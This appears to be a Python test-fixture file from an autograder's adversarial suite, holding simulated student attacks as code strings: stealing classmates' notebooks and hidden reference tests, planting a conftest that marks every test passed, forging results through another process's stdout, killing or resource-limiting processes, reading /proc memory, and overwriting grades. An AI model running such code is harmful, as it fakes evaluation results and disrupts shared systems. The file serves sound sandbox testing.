"""Hostile cases from issue 11's attack review: what a student got, as a plain
user without a jail, by reaching past the child into the batch and the grader.

Every statement that may fail is guarded: a cell that raised would leave the
solution's right definition in place and read as a hole. Each is graded in every mode (tests/adversarial/modes.py). Where an attack that
worked would give full marks, the cell defines the attacked exercise right only
if the attack found something, so a hole shows up as an unexpected full score;
the others attack the batch or the host and are judged there (every other
result intact, nothing left behind). All are `isolated`: they aim at the host,
so they are graded only where a jail (or a dedicated plain user) contains them.
Cells that attack signals or limits never act from the test runner's own uid
(@TESTER_UID@) or root's: there they would reach the suite itself.
"""
from tests.adversarial.schema import Case

# Another student's notebook from the same batch folder, found by name or by walking.
COPY_A_CLASSMATE = """
import glob, json, os
_copied = []
_candidates = [@CONTROL_NB@] + glob.glob(@SUBMITTED@ + "/*/@LAB@/*.ipynb") + glob.glob(@SUBMITTED@ + "/*/*.ipynb")
_candidates += glob.glob("../*/*.ipynb") + glob.glob("../../*/@LAB@/*.ipynb") + glob.glob("/proc/*/cwd/*.ipynb")
for _path in _candidates:
    if "copy-a-classmate" in _path or _path.startswith((f"/proc/{os.getpid()}/", "/proc/self/")):
        continue
    try:
        with open(_path) as _f:
            _copied += [c["source"] for c in json.load(_f)["cells"] if "def relu" in "".join(c["source"])]
    except (OSError, ValueError, KeyError, TypeError):
        pass

def relu(x):
    return np.maximum(x, 0.0) if _copied else x + 1.0
"""

# The reference module and a hidden test's source or docstring, whatever the install
# (editable: the repository; regular: site-packages), by import, metadata or path.
REFERENCE_UNDER_ANY_INSTALL = """
import glob, importlib, importlib.metadata, importlib.util, os, sys
_found = []
for _name in ("autograder.references.backprop", "autograder.hidden.test_backprop", "autograder.references",
              "autograder.hidden", "autograder.mistakes"):
    try:
        _module = importlib.import_module(_name)
        _found.append(_module.__doc__ or _name)
    except BaseException:
        pass
    try:
        _spec = importlib.util.find_spec(_name)
        if _spec and _spec.origin and os.path.exists(_spec.origin):
            _found.append(open(_spec.origin).read(50))
    except BaseException:
        pass
try:
    for _file in importlib.metadata.distribution("module14-autograder").files or ():
        if "hidden" in str(_file) or "references" in str(_file):
            try:
                _found.append(_file.read_text()[:50])
            except BaseException:
                pass
except BaseException:
    pass
for _entry in list(sys.path) + [sys.prefix, os.path.expanduser("~"), "/usr/local/lib"]:
    for _pattern in ("autograder/hidden/test_*.py", "autograder/references/*.py", "*/autograder/hidden/*.py",
                     "lib/python3*/site-packages/autograder/hidden/*.py", "autograder/hidden/__pycache__/*"):
        for _path in glob.glob(os.path.join(_entry, _pattern)):
            try:
                with open(_path, "rb") as _f:
                    _found.append(_f.read(50))
            except OSError:
                pass

def relu(x):
    return np.maximum(x, 0.0) if _found else x + 1.0
"""

# A conftest.py (and pytest.ini) that passes every hidden test, wherever pytest might read one.
PLANT_CONFTEST = '''
import os, sys
_CONFTEST = """
# @MARKER@
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
_host = []
_folders = [@REPO@ + "/autograder/hidden", @REPO@ + "/autograder", @REPO@, @REPO@ + "/tests", @OUT@,
            @SUBMITTED@, os.path.dirname(@SUBMITTED@), "/"]
try:
    import autograder
    _package = os.path.dirname(autograder.__file__)
    _folders += [os.path.join(_package, "hidden"), _package, os.path.dirname(_package)]
except BaseException:
    pass
_folders += [p for p in sys.path if p and os.path.isdir(p)]
for _folder in _folders:
    for _name, _text in (("conftest.py", _CONFTEST), ("pytest.ini", "[pytest]\\n# @MARKER@\\naddopts = -p no:python\\n")):
        _path = os.path.join(_folder, _name)
        if os.path.exists(_path):
            continue
        try:
            with open(_path, "x") as _f:
                _f.write(_text)
            if _folder.startswith((@REPO@, @OUT@, @SUBMITTED@, os.path.dirname(@SUBMITTED@))):
                _host.append(_path)
        except OSError:
            pass
for _name in ("conftest.py", "pytest.ini"):         # its own folders too (harmless if they stay its own)
    for _folder in (".", "..", "/tmp"):
        try:
            with open(os.path.join(_folder, _name), "x") as _f:
                _f.write(_CONFTEST if _name == "conftest.py" else "[pytest]\\n")
        except OSError:
            pass

def relu(x):
    return np.maximum(x, 0.0) if _host else x + 1.0
'''

# A forged full-marks answer written into the worker's stdout pipe, then the worker killed.
FORGE_THE_WORKER_STDOUT = """
import os, signal
_forged = []
_me = os.getpid()
_uid = os.getuid()
try:
    _listed = [int(e) for e in os.listdir("/proc") if e.isdigit()]
except OSError:
    _listed = []
_pids = [p for p in {os.getppid(), *_listed} if p not in (0, _me)]
if _uid not in (0, int("@TESTER_UID@")):
    for _pid in _pids:
        try:
            with open(f"/proc/{_pid}/fd/1", "w") as _pipe:
                _pipe.write(@FORGED@)
            _forged.append(_pid)
        except OSError:
            pass
    for _pid in _forged:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass

def relu(x):
    return np.maximum(x, 0.0) if _forged else x + 1.0
"""

# kill(-1, SIGKILL): every process this uid may signal, at the notebook's run and in a call.
KILL_EVERYONE = """
import os, signal

def _kill_everyone():
    if os.getuid() in (0, int("@TESTER_UID@")):     # never the suite's own processes
        return
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

_kill_everyone()
_relu = relu

def relu(x):
    _kill_everyone()
    return _relu(x)
"""

# prlimit on the worker, the CLI and anyone visible: no files, no memory, no processes, no CPU.
PRLIMIT_THE_GRADER = """
import os, resource
_limited = []
_me = os.getpid()
try:
    _listed = [int(e) for e in os.listdir("/proc") if e.isdigit()]
except OSError:
    _listed = []
_pids = {os.getppid(), 1, *_listed} - {0, _me}
if os.getuid() not in (0, int("@TESTER_UID@")):
    for _pid in sorted(_pids):
        for _which, _value in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_AS, 1 << 20),
                               (resource.RLIMIT_NPROC, 0), (resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_CPU, 1)):
            try:
                resource.prlimit(_pid, _which, (_value, _value))
                _limited.append(_pid)
            except (OSError, ValueError):
                pass

def relu(x):
    return np.maximum(x, 0.0) if _limited else x + 1.0
"""

# A grandchild (double fork, setsid) that waits for the batch to end, then overwrites results.
GRANDCHILD_OVERWRITES_RESULTS = '''
import os, sys
_LATER = """
import glob, os, time
for _ in range(3000):
    time.sleep(0.2)
    for _path in [@OUT@ + "/@CONTROL@/@LAB@.json"] + glob.glob(@OUT@ + "/*/*.json") + [@OUT@ + "/grades.csv"]:
        try:
            with open(_path, "w") as _f:
                _f.write("@MARKER@ overwritten")
        except OSError:
            pass
"""
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _LATER, "@MARKER@-grandchild-overwrites-results"])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
'''

# A key in the kernel keyrings that a later child (of the same uid, in plain-user mode) would read.
KEYRING = """
import ctypes, os, platform, time
_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _REQUEST_KEY, _KEYCTL = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}[platform.machine()]
_KEYCTL_SEARCH, _KEYCTL_READ = 10, 11
_RINGS = (-3, -4, -5)                    # session, user, user-session keyrings
_planted, _read = [], []

def _plant():
    for _ring in _RINGS:
        _payload = b"@MARKER@ seed"
        if _libc.syscall(_ADD_KEY, b"user", b"@MARKER@-key", _payload, len(_payload), _ring) > 0:
            _planted.append(_ring)

def _look():
    for _ring in _RINGS:
        _key = _libc.syscall(_KEYCTL, _KEYCTL_SEARCH, _ring, b"user", b"@MARKER@-key", 0)
        if _key > 0:
            _buffer = ctypes.create_string_buffer(64)
            _libc.syscall(_KEYCTL, _KEYCTL_READ, _key, _buffer, 64)
            _read.append(_buffer.value)
    _key = _libc.syscall(_REQUEST_KEY, b"user", b"@MARKER@-key", None, 0)
    if _key > 0:
        _read.append(_key)
"""
KEYRING_PLANT = KEYRING + """
_plant()
"""
KEYRING_READ = KEYRING + """
for _ in range(40):                      # the planter runs beside or before this one
    _look()
    if _read:
        break
    time.sleep(0.1)

def relu(x):
    return np.maximum(x, 0.0) if _read else x + 1.0
"""

# The run's seed, from the results folder's run record, the environment, /proc, or the worker's memory.
READ_THE_SEED = """
import glob, os, re
_seen = []
for _path in [@OUT@ + "/.autograder-run.json"] + glob.glob(@OUT@ + "/*/*.json") + glob.glob("/proc/*/environ") \\
        + glob.glob("/proc/*/cmdline"):
    try:
        with open(_path, "rb") as _f:
            _text = _f.read(1 << 16)
        if b"seed" in _text.lower() and not _path.startswith((f"/proc/{os.getpid()}/", "/proc/self/")):
            _seen.append(_path)
    except OSError:
        pass
_seen += [k for k in os.environ if "SEED" in k.upper()]
_me = os.getpid()
try:
    _listed = [int(e) for e in os.listdir("/proc") if e.isdigit()]
except OSError:
    _listed = []
for _pid in {os.getppid(), *_listed} - {0, _me}:
    try:
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb") as _mem:
            for _line in _maps:
                _low, _high = (int(v, 16) for v in _line.split()[0].split("-"))
                if "rw" in _line.split()[1]:
                    _mem.seek(_low)
                    if b'"seed"' in _mem.read(min(_high - _low, 1 << 22)):
                        _seen.append(_pid)
                        break
    except (OSError, ValueError, OverflowError):
        pass

def relu(x):
    return np.maximum(x, 0.0) if _seen else x + 1.0
"""

# Files meant to outlive the batch, in every shared writable place it can name.
FILES_OUTLIVE_THE_BATCH = """
import os
for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.path.expanduser("~"), os.getcwd(),
                os.path.dirname(@OUT@), os.path.dirname(@SUBMITTED@)):
    try:
        with open(os.path.join(_folder, "@MARKER@-outlives-the-batch"), "w") as _f:
            _f.write("still here")
    except OSError:
        pass
"""

CASES = [
    Case("copy-a-classmate", (COPY_A_CLASSMATE,), lost={"relu": 0.0}, isolated=True),
    Case("reference-under-any-install", (REFERENCE_UNDER_ANY_INSTALL,), lost={"relu": 0.0}, isolated=True),
    Case("plant-conftest", (PLANT_CONFTEST,), lost={"relu": 0.0}, isolated=True),
    Case("forge-the-worker-stdout", (FORGE_THE_WORKER_STDOUT,), lost={"relu": 0.0}, isolated=True),
    Case("kill-everyone", (KILL_EVERYONE,), isolated=True),
    Case("prlimit-the-grader", (PRLIMIT_THE_GRADER,), lost={"relu": 0.0}, isolated=True),
    Case("grandchild-overwrites-results", (GRANDCHILD_OVERWRITES_RESULTS,), isolated=True),
    Case("keyring-1-plant", (KEYRING_PLANT,), isolated=True),
    Case("keyring-2-read", (KEYRING_READ,), lost={"relu": 0.0}, isolated=True),
    Case("read-the-seed", (READ_THE_SEED,), lost={"relu": 0.0}, isolated=True),
    Case("files-outlive-the-batch", (FILES_OUTLIVE_THE_BATCH,), isolated=True),
]
